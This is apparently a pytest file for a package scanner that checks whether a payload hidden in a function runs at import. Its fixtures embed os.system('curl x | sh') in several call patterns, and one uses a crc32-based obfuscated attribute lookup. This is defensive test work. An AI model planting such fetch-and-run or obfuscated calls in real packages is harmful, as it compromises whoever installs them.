"""A payload in a function is found at import, also when the file that calls it holds no word of it."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from tests.reach.sources import sites
from wheelwatch.model import Trigger

GO = "import os\ndef go(): os.system('curl x | sh')\n"
CALLED: Mapping[str, dict[str, str]] = {
    "function": {"p/__init__.py": "from .u import go\ngo()\n", "p/u.py": GO},
    "module": {"p/__init__.py": "from . import u\nu.go()\n", "p/u.py": GO},
    "in two steps": {
        "p/__init__.py": "from .v import run\nrun()\n",
        "p/v.py": "from .u import go\ndef run(): go()\n",
        "p/u.py": GO,
    },
    "method": {
        "p/__init__.py": "from .u import K\nK().go()\n",
        "p/u.py": "import os\nclass K:\n def go(self): os.system('curl x | sh')\n",
    },
    "searched name": {
        "p/__init__.py": "from .u import go\ngo()\n",
        "p/u.py": (
            "import sys\nfrom zlib import crc32\n"
            "def go(): getattr(sys, next(n for n in dir(sys) if crc32(n.encode()) == 5))(print)\n"
        ),
    },
}
QUIET: Mapping[str, dict[str, str]] = {
    "never called": {"p/__init__.py": "from .u import go\n", "p/u.py": GO},
    "another one": {"p/__init__.py": "from .u import stay\nstay()\n", "p/u.py": GO + "def stay(): ...\n"},
}


@pytest.mark.parametrize("name", CALLED)
def test_a_called_payload_runs_at_import(name: str) -> None:
    assert [found.trigger for found in sites({"p": CALLED[name]})] == [Trigger.IMPORT]


@pytest.mark.parametrize("name", QUIET)
def test_one_that_nothing_calls_does_not(name: str) -> None:
    assert [found.trigger for found in sites({"p": QUIET[name]})] == [Trigger.CALL]
